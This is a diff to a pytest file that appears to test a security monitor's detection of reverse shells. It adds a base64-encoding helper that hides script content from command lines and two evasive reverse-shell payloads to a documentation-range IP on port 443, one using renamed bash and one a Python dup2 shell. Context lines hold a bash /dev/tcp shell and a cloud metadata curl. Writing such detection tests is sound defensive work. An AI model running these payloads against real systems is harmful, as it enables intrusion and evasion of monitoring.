@@ -8,6 +8,7 @@ here, which gives the monitor the kernel's exec and exit events on top of its /p
 
 from __future__ import annotations
 
+import base64
 import io
 import json
 import os
@@ -62,6 +63,13 @@ def _worst(env: dict[str, str]) -> dict[str, Any]:
 BUSYBOX = "/opt/bb/busybox"
 
 
+def _hidden(path: str, content: str, then: str) -> str:
+    """Shell that writes `content` to `path` without it showing in any command line, then
+    runs `then`."""
+    encoded = base64.b64encode(content.encode()).decode()
+    return f"echo {encoded} | base64 -d > {path} && {then}"
+
+
 ATTACKS = [
     pytest.param(
         "bash -i >& /dev/tcp/198.51.100.10/4444 0>&1",
@@ -82,6 +90,31 @@ ATTACKS = [
         "restricted",
         ("critical", "reverse_shell", "killed"),
         id="python-socket-shell",
+    ),
+    pytest.param(
+        # A renamed bash on the HTTPS port: no telling name, port or command line anywhere
+        # (the script reaches the container encoded), only what the process does.
+        _hidden(
+            "/tmp/job.sh",
+            "exec 3<>/dev/tcp/198.51.100.10/443\nexec /tmp/kworker -i <&3 >&3 2>&3\n",
+            "cp /bin/bash /tmp/kworker && /tmp/kworker /tmp/job.sh",
+        ),
+        "restricted",
+        ("critical", "reverse_shell", "killed"),
+        id="renamed-bash-443",
+    ),
+    pytest.param(
+        # The socket becomes stdio after start (dup2), then the shell takes another name.
+        _hidden(
+            "/tmp/u.py",
+            "import socket, os\ns = socket.socket()\ns.connect(('198.51.100.10', 443))\n"
+            "for f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\n"
+            "os.execv('/bin/sh', ['updater'])\n",
+            "python3 /tmp/u.py",
+        ),
+        "restricted",
+        ("critical", "reverse_shell", "killed"),
+        id="dup2-exec-renamed-443",
     ),
     pytest.param(
         "curl -s -m 8 http://169.254.169.254/latest/meta-data/",
